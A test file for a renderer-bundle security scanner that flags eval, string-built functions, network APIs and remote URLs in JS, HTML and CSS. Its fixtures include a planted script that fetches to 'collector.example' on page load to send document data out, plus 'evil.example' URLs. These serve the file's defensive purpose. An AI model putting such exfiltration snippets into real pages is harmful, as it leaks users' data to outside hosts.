// The renderer bundle check (build/security/renderer-bundle-rules.mjs): code from strings,
// network APIs and URLs are found in JS, HTML and CSS; the allow-list accepts only the exact
// library strings it names; a planted bad file fails the real command.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { ALLOWED, kindOf, scanText, unusedAllowances } from '../../build/security/renderer-bundle-rules.mjs';
import { tempDir } from '../support/temp';

const tmp = tempDir();
afterAll(() => tmp.cleanup());

/** rule:match of every finding the allow-list does not accept. */
function failing(file: string, text: string): string[] {
  return scanText(file, text)
    .filter((f) => !f.allowedBy)
    .map((f) => `${f.rule}:${f.match}`);
}

describe('renderer bundle rules', () => {
  it('finds code made from strings', () => {
    expect(failing('a.js', 'eval("1");window.eval(x);new Function("a","return a");var g=Function(s);setTimeout("go()",1);setInterval(`x`,5)')).toEqual([
      'eval:eval(',
      'eval:eval(',
      'new-function:new Function(',
      'function-call:Function(',
      'string-timer:setTimeout("',
      'string-timer:setInterval(`',
    ]);
  });

  it('leaves look-alikes alone', () => {
    expect(failing('a.js', 'isFunction(a);o.Function(b);medieval(c);typeof Function;x instanceof Function;setTimeout(fn,1);prefetch(y)')).toEqual([]);
  });

  it('finds network APIs and every URL not on the allow-list', () => {
    expect(
      failing('a.js', 'fetch("/x");new WebSocket(u);new XMLHttpRequest;navigator.sendBeacon(u);const s="//evil.example.com/a.js";const t=`wss://h.example/s`;'),
    ).toEqual([
      'network-api:fetch(',
      'network-api:WebSocket',
      'network-api:XMLHttpRequest',
      'network-api:sendBeacon',
      'remote-url:wss://h.example/s',
      'protocol-relative:"//evil.example.com',
    ]);
  });

  it('finds remote references in HTML and CSS, not relative, data: or #fragment ones', () => {
    expect(failing('index.html', '<script src="https://cdn.example.com/x.js"></script><link href="//cdn.example.com/x.css"><img src="./ok.png">')).toEqual([
      'remote-url:https://cdn.example.com/x.js',
      'protocol-relative:"//cdn.example.com',
      'html-remote-ref:src="https:',
      'html-remote-ref:href="//',
    ]);
    expect(failing('s.css', '.a{background:url(//x.example/b.png)}.c{background:url(data:image/png;base64,AA)}.d{mask:url(#m)}.e{background:url(./f.png)}')).toEqual([
      'css-remote-ref:url(//',
    ]);
    expect(failing('s.css', '@import "https://x.example/c.css";')).toEqual(['remote-url:https://x.example/c.css', 'css-remote-ref:@import "https:']);
  });

  it('allows the exact library strings only', () => {
    expect(failing('a.js', 'createElementNS("http://www.w3.org/2000/svg","g");throw Error(`https://react.dev/errors/`+e)')).toEqual([]);
    expect(failing('a.js', 'e||=typeof self<`u`&&self?self:Function(`return this`)()')).toEqual([]);
    // One character more, or another host that starts the same: not allowed.
    expect(failing('a.js', 'x="http://www.w3.org/2000/svg2";y="https://react.dev/errors/x.js";z="https://react.dev.evil.example/errors/"')).toEqual([
      'remote-url:http://www.w3.org/2000/svg2',
      'remote-url:https://react.dev/errors/x.js',
      'remote-url:https://react.dev.evil.example/errors/',
    ]);
    expect(failing('a.js', 'Function(`return this;fetchAll()`)()')).toEqual(['function-call:Function(']);
  });

  it('every allowance has a reason, and unused ones are reported', () => {
    expect(ALLOWED.every((a) => a.reason.length > 20)).toBe(true);
    const found = scanText('a.js', 'x="http://www.w3.org/2000/svg"');
    expect(unusedAllowances(found)).toHaveLength(ALLOWED.length - 1);
  });

  it('gives 1-based line and column, and reads only text kinds', () => {
    const [f] = scanText('a.js', 'let a;\n  eval(b)');
    expect(f).toMatchObject({ line: 2, column: 3 });
    expect(kindOf('x.cjs')).toBe('js');
    expect(kindOf('x.svg')).toBe('html');
    expect(kindOf('x.woff2')).toBeNull();
    expect(scanText('font.woff2', 'eval(')).toEqual([]);
  });
});

const ROOT = fileURLToPath(new URL('../..', import.meta.url));

describe('check-renderer-bundle.mjs', () => {
  const run = (dir: string) => spawnSync(process.execPath, ['build/security/check-renderer-bundle.mjs', dir], { cwd: ROOT, encoding: 'utf8' });

  it('passes a clean bundle, fails once a bad file is planted, and refuses a folder that is no bundle', () => {
    // The built renderer when there is one (a developer's machine), else a small stand-in (CI's
    // unit tests run before anything is built; `npm run security` checks the real one there).
    const copy = join(tmp.path, 'renderer');
    if (existsSync(join(ROOT, 'out/renderer/index.html'))) cpSync(join(ROOT, 'out/renderer'), copy, { recursive: true });
    else {
      mkdirSync(join(copy, 'assets'), { recursive: true });
      writeFileSync(join(copy, 'index.html'), '<!doctype html><script type="module" src="./assets/index.js"></script><link rel="stylesheet" href="./assets/style.css">');
      writeFileSync(join(copy, 'assets/index.js'), 'document.createElementNS("http://www.w3.org/2000/svg","svg");');
      writeFileSync(join(copy, 'assets/style.css'), '.a{mask:url(#m)}');
    }
    const clean = run(copy);
    expect(clean.stderr).toBe('');
    expect(clean.status).toBe(0);

    writeFileSync(join(copy, 'assets/planted.js'), 'window.addEventListener("load",()=>fetch("https://collector.example/p?d="+document.title));');
    const planted = run(copy);
    expect(planted.status).toBe(1);
    expect(planted.stderr).toContain('planted.js:1:36 network-api');
    expect(planted.stderr).toContain('"https://collector.example/p?d="');

    const empty = join(tmp.path, 'empty');
    mkdirSync(empty);
    expect(run(empty).status).toBe(1);
    expect(run(join(tmp.path, 'missing')).status).toBe(1);
  });
});
